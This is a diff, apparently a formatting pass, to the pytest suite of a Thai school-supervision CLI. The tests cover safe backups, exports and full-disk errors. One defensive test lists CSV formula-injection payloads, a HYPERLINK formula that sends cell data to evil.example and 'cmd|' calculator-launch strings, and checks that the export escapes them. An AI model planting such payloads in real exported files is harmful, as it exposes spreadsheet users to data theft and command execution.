@@ -17,13 +17,12 @@ import sys
 from pathlib import Path
 
 import pytest
+from conftest import Nitet
 from hypothesis import given
 from hypothesis import strategies as st
-
-import nitet_cli
-from conftest import Nitet
 from stress_data import SMALL_MANUAL, add_entry, init_db
 
+import nitet_cli
 from nitet_cli.activities import EvidenceInput, NewActivity, add_activity
 from nitet_cli.maintenance import doctor, open_existing
 from nitet_cli.paths import evidence_dir
@@ -143,7 +142,9 @@ def test_no_output_overwrites_the_database_or_its_store(filled, tmp_path, writer
     assert report.ok and not report.warnings, [p.message for p in report.problems]
 
 
-@pytest.mark.parametrize("what", ["a symlink to the database", "a hard link to the database", "a symlink into the store"])
+@pytest.mark.parametrize(
+    "what", ["a symlink to the database", "a hard link to the database", "a symlink into the store"]
+)
 def test_zip_export_never_overwrites_the_database(filled, tmp_path, what):
     out = TARGETS[what](filled.db_path)
     out = out.rename(out.with_suffix(".zip")) if os.path.lexists(out) else out.with_suffix(".zip")
@@ -238,7 +239,11 @@ def test_backup_never_overwrites_another_database(filled, tmp_path):
     ):
         line = one_sentence(filled("backup", target, ok=False))
         assert why in line and "ไม่ใช่ไฟล์สำรองของ" in line and str(target) in line
-    for target in (evidence_dir(filled.db_path), evidence_dir(filled.db_path) / "ชุดสำรอง.db", filled.db_path.with_suffix(".sqlite")):
+    for target in (
+        evidence_dir(filled.db_path),
+        evidence_dir(filled.db_path) / "ชุดสำรอง.db",
+        filled.db_path.with_suffix(".sqlite"),
+    ):
         line = one_sentence(filled("backup", target, ok=False))
         assert "ที่เก็บหลักฐาน" in line
     assert files_under(tmp_path) == before
@@ -321,7 +326,10 @@ def test_backup_killed_at_each_step_leaves_a_valid_backup(filled, tmp_path, step
     env = {**os.environ, "PYTHONPATH": f"{SRC}{os.pathsep}{os.environ.get('PYTHONPATH', '')}"}
     child = subprocess.Popen(
         [sys.executable, "-c", KILLED_BACKUP, str(filled.db_path), str(target), step],
-        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+        env=env,
     )
     line = child.stdout.readline()
     assert line.strip() == "MID", (line, child.stderr.read())
@@ -405,9 +413,15 @@ def big(filled, tmp_path):
 
     for n in range(40):
         add_activity(
-            conn, filled.db_path,
-            NewActivity(date=date(2026, 11, 2), title=f"นิเทศ {n}", standards=["1.2"], schools=["57010001"],
-                        findings="ครูจัดกิจกรรมการเรียนรู้เชิงรุก " * 20),
+            conn,
+            filled.db_path,
+            NewActivity(
+                date=date(2026, 11, 2),
+                title=f"นิเทศ {n}",
+                standards=["1.2"],
+                schools=["57010001"],
+                findings="ครูจัดกิจกรรมการเรียนรู้เชิงรุก " * 20,
+            ),
         )
     add_entry(conn, filled.db_path, 50, evidence=[EvidenceInput(path=noise_photo(tmp_path / "ใหญ่.jpg", 9))])
     conn.close()
@@ -422,17 +436,27 @@ def test_a_full_disk_is_one_sentence_and_the_old_file_stays(big, tmp_path, write
     args = [a.replace("{dir}", str(folder)) for a in args]
     big(*args)  # the old file, written with room to spare
     old = files_under(folder)
-    env = {**os.environ, "PYTHONPATH": f"{SRC}{os.pathsep}{os.environ.get('PYTHONPATH', '')}", "NITET_TODAY": "2026-11-24"}
+    env = {
+        **os.environ,
+        "PYTHONPATH": f"{SRC}{os.pathsep}{os.environ.get('PYTHONPATH', '')}",
+        "NITET_TODAY": "2026-11-24",
+    }
     conn = init_db(big.db_path, manual=long_manual())  # the same long manual as big
     add_entry(conn, big.db_path, 60, evidence=[EvidenceInput(path=photo(tmp_path / "ใหม่.jpg", 11, size=new_photo))])
     conn.close()
     result = subprocess.run(
         [sys.executable, "-m", "nitet_cli", "--db", str(big.db_path), *args],
-        capture_output=True, text=True, env=env, preexec_fn=limited(limit), timeout=300,
+        capture_output=True,
+        text=True,
+        env=env,
+        preexec_fn=limited(limit),
+        timeout=300,
     )
     assert result.returncode == 5, (result.stdout, result.stderr)
     lines = result.stderr.strip().splitlines()
-    assert len(lines) == 1 and lines[0].startswith("ข้อผิดพลาด: "), result.stderr  # no traceback, no ZipFile.__del__ noise
+    assert len(lines) == 1 and lines[0].startswith("ข้อผิดพลาด: "), (
+        result.stderr
+    )  # no traceback, no ZipFile.__del__ noise
     assert "ไม่ได้" in lines[0] and "ยังอยู่ครบ" in lines[0]
     assert files_under(folder) == old  # the old file byte for byte, no temporary file
     if name == "bk.db":
@@ -506,7 +530,7 @@ def test_the_umask_narrows_an_output_further_never_widens_it(filled, tmp_path, u
 
 # --- item 13: no CSV cell is a formula ----------------------------------------------------------
 
-FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"คลิก\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"คลิก")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]
 
 
 def test_csv_cells_that_would_be_formulas_are_text(filled, tmp_path):
@@ -516,20 +540,31 @@ def test_csv_cells_that_would_be_formulas_are_text(filled, tmp_path):
 
     evil = photo(tmp_path / "=cmd.jpg", 5)
     add_activity(
-        conn, filled.db_path,
-        NewActivity(date=date(2026, 11, 3), title=FORMULAS[0], standards=["1.2"], schools=["57019999"],
-                    findings=FORMULAS[1], suggestions=FORMULAS[2], participants=FORMULAS[3], teachers=12,
-                    evidence=[EvidenceInput(path=evil)]),
+        conn,
+        filled.db_path,
+        NewActivity(
+            date=date(2026, 11, 3),
+            title=FORMULAS[0],
+            standards=["1.2"],
+            schools=["57019999"],
+            findings=FORMULAS[1],
+            suggestions=FORMULAS[2],
+            participants=FORMULAS[3],
+            teachers=12,
+            evidence=[EvidenceInput(path=evil)],
+        ),
     )
     conn.close()
     conn = sqlite3.connect(filled.db_path)  # text that reached the database another way (SQL, an old version)
-    conn.execute("UPDATE activities SET findings = ?, suggestions = ? WHERE title = 'นิเทศการจัดการเรียนรู้ ครั้งที่ 3'", ("\t=1", "\r=2"))
+    conn.execute(
+        "UPDATE activities SET findings = ?, suggestions = ? WHERE title = 'นิเทศการจัดการเรียนรู้ ครั้งที่ 3'", ("\t=1", "\r=2")
+    )
     conn.commit()
     conn.close()
 
     filled("export", "-o", tmp_path / "กิจกรรม.csv")
     rows = list(csv.DictReader(io.StringIO((tmp_path / "กิจกรรม.csv").read_bytes().decode("utf-8-sig"), newline="")))
-    mine = next(r for r in rows if r["ชื่อกิจกรรม"].endswith("\"คลิก\")"))
+    mine = next(r for r in rows if r["ชื่อกิจกรรม"].endswith('"คลิก")'))
     assert mine["ชื่อกิจกรรม"] == "'" + FORMULAS[0]
     assert mine["ผลการนิเทศ"] == "'" + FORMULAS[1]
     assert mine["ข้อเสนอแนะ"] == "'" + FORMULAS[2]
@@ -566,4 +601,6 @@ def test_any_text_is_a_safe_csv_cell_and_reads_back(text, start):
     entry = {**dict.fromkeys(keys, ""), "date": date(2026, 11, 2), "title": value, "findings": value, "teachers": -3}
     row = list(csv.reader(io.StringIO(csv_text(ACTIVITY_COLUMNS, [entry]), newline="")))[1]
     assert all(not c.startswith(FORMULA_START) for c in row if c != "-3")
-    assert row[keys.index("title")] == cell and row[keys.index("teachers")] == "-3"  # the title as text; the number, untouched
+    assert (
+        row[keys.index("title")] == cell and row[keys.index("teachers")] == "-3"
+    )  # the title as text; the number, untouched
